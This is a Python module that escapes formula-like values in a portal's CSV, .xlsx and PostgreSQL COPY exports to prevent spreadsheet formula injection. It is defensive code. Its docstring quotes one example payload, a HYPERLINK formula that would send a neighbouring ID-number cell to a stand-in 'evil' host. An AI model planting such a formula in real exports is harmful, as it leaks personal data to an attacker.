"""Exports are data, never formulas (DESIGN §7, OWASP "CSV injection").

A value that starts with `=`, `+`, `-`, `@`, a tab or a carriage return would be read
as a formula by Excel, LibreOffice or WPS: a roster name `=HYPERLINK("http://evil/?d="&B2,"点我")`
becomes a live link that carries the next cell (a full ID number) away. Every .xlsx
and CSV the portal writes goes through these helpers:

- CSV has no cell types, so such a value gets a leading apostrophe, which the
  spreadsheet programs read as "this is text" and do not show.
- .xlsx has types: such a value is written as a string cell (never a formula) with
  Excel's quote prefix, so it stays text even after someone edits the cell.

Plain numbers written as strings ("-120.50") are left alone: they cannot be formulas,
and the money columns must stay numbers.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?\Z")


def is_formula_like(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.match(value)


def csv_cell(value: Any) -> Any:
    """One CSV field, defused: a formula-like text gets a leading apostrophe."""
    return "'" + value if is_formula_like(value) else value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_cell(v) for v in values]


class SafeCsvWriter:
    """csv.writer with every field passed through csv_cell."""

    def __init__(self, fh: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(fh, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(csv_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(fh: Any, **kwargs: Any) -> SafeCsvWriter:
    return SafeCsvWriter(fh, **kwargs)


def xlsx_row(ws: Any, values: Iterable[Any]) -> list[Any]:
    """A row for `ws.append(...)` (write-only or normal worksheets): formula-like text
    becomes a string cell with the quote prefix; everything else is passed as is."""
    from openpyxl.cell import WriteOnlyCell

    out: list[Any] = []
    for v in values:
        if is_formula_like(v):
            cell = WriteOnlyCell(ws, value=v)
            cell.data_type = "s"  # openpyxl typed it "f" (formula) from the leading "="
            cell.quotePrefix = True
            out.append(cell)
        else:
            out.append(v)
    return out


def xlsx_layout(ws: Any, widths: Iterable[float], *, header_row: int = 1) -> None:
    """Staff live in Excel (issue 12): column widths, the header row frozen, and a filter.

    Call on a write-only sheet before the first append; `xlsx_filter` sets the filter's
    range once the row count is known."""
    from openpyxl.utils import get_column_letter

    for i, width in enumerate(widths, start=1):
        ws.column_dimensions[get_column_letter(i)].width = width
    ws.freeze_panes = f"A{header_row + 1}"


def xlsx_filter(ws: Any, *, columns: int, header_row: int, last_row: int) -> None:
    from openpyxl.utils import get_column_letter

    ws.auto_filter.ref = f"A{header_row}:{get_column_letter(columns)}{max(last_row, header_row)}"


def sql_csv_text(column: str) -> str:
    """The same rule in SQL, for files PostgreSQL writes itself with COPY … TO STDOUT.
    `column` is a trusted identifier (never user input)."""
    return (f"CASE WHEN {column} ~ '^[-=+@\\t\\r]' AND {column} !~ '^[+-]?[0-9]+(\\.[0-9]+)?$' "
            f"THEN '''' || {column} ELSE {column} END")
